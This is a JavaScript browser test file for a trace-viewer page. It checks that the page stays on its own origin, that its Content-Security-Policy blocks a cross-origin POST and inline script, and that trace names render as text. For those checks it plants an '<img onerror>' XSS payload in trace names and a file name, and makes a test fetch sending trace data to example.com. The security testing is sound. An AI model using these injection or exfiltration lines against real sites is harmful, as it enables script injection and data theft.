// Provably private: the built page asks nothing of any origin but its own, its Content-Security-Policy
// is in force (a fetch to another origin is refused), and names from a trace are shown as text, never
// run as HTML.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { useBrowser, openPage, openTab, screenshotPath, trace, ROOT } from './harness.mjs';

const env = useBrowser();

const READY = '#summary[data-state="ready"]';
const INJECTED = '<img src=x onerror="window.__pwned=1">';

test('no request leaves the page\'s origin while a trace is loaded and analysed', async () => {
  const origin = new URL(env.server.url).origin;
  const requests = [];
  const record = (r) => requests.push(r.url());
  env.browser.context.on('request', record);
  const { page, errors } = await openPage(env.browser.context, env.server.url);
  await page.setInputFiles('#file-input', trace('hta__sampled_rank-0.json.gz'));
  await page.waitForSelector(READY, { timeout: 120_000 });
  await openTab(page, 'analyses');
  await page.waitForSelector('#deeper[data-state="ready"]', { timeout: 60_000 });
  env.browser.context.off('request', record);
  const foreign = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'));
  assert.ok(requests.length > 0, 'requests were recorded');
  assert.deepEqual(foreign, [], 'every request stays on the page\'s origin');
  assert.deepEqual(errors, [], 'no console errors (the policy lets the page and its workers run)');
  await page.close();
});

test('the Content-Security-Policy is in force: a fetch to another origin is refused', async () => {
  const { page } = await openPage(env.browser.context, env.server.url, { allow: /Content Security Policy|Refused to connect|Failed to fetch/ });
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /default-src 'self'/);
  assert.match(policy, /connect-src 'self'/);
  assert.doesNotMatch(policy, /unsafe-inline'; worker|script-src[^;]*unsafe-inline/, 'no inline script is allowed');
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched;
    try {
      await fetch('https://example.com/upload', { method: 'POST', body: 'trace' });
      fetched = 'sent';
    } catch (e) {
      fetched = 'refused';
    }
    // An inline script added now does not run either.
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.appendChild(s);
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, violations, inline: window.__inline === 1 };
  });
  assert.equal(outcome.fetched, 'refused');
  assert.ok(outcome.violations.some((v) => v.startsWith('connect-src')), JSON.stringify(outcome.violations));
  assert.equal(outcome.inline, false, 'an injected inline script is not run');
  await page.close();
});

/** A small trace whose kernel, op and annotation names are HTML. */
function hostileTrace() {
  const events = [{ ph: 'X', cat: 'user_annotation', name: `ProfilerStep#1 ${INJECTED}`, pid: 1, tid: 1, ts: 0, dur: 5000 }];
  for (let i = 0; i < 20; i += 1) {
    const t = 100 + i * 200;
    events.push({ ph: 'X', cat: 'cpu_op', name: `aten::${INJECTED}`, pid: 1, tid: 1, ts: t, dur: 50, args: { 'External id': i + 1 } });
    events.push({ ph: 'X', cat: 'cuda_runtime', name: 'cudaLaunchKernel', pid: 1, tid: 1, ts: t + 10, dur: 5, args: { correlation: i + 1, 'External id': i + 1 } });
    events.push({ ph: 'X', cat: 'kernel', name: `${INJECTED}_kernel`, pid: 0, tid: 7, ts: t + 20, dur: 100, args: { stream: 7, device: 0, correlation: i + 1, 'External id': i + 1 } });
  }
  return JSON.stringify({ schemaVersion: 1, traceEvents: events });
}

test('names from a trace are shown as text, never run as HTML', async () => {
  const dir = path.join(ROOT, 'test-output', 'hostile');
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, `${INJECTED.replace(/\//g, '_')}.json`);
  fs.writeFileSync(file, hostileTrace());
  const { page, errors } = await openPage(env.browser.context, env.server.url);
  await page.setInputFiles('#file-input', file);
  await page.waitForSelector(READY, { timeout: 60_000 });
  await openTab(page, 'analyses');
  await page.waitForSelector('#deeper[data-state="ready"]', { timeout: 60_000 });
  // Open every analysis block, so that every name is drawn.
  for (const s of await page.locator('#deeper details > summary').all()) await s.click();
  await page.waitForTimeout(300);
  const state = await page.evaluate(() => ({
    pwned: window.__pwned === 1,
    images: document.querySelectorAll('img[src="x"]').length,
    text: document.body.innerText,
  }));
  assert.equal(state.pwned, false, 'no handler from the trace ran');
  assert.equal(state.images, 0, 'no element from the trace was made');
  assert.ok(state.text.includes('<img src=x'), 'the names are shown as text');
  await page.screenshot({ path: screenshotPath('hostile-names'), fullPage: true });
  assert.deepEqual(errors, [], 'no console errors');
  fs.rmSync(dir, { recursive: true, force: true });
  await page.close();
});
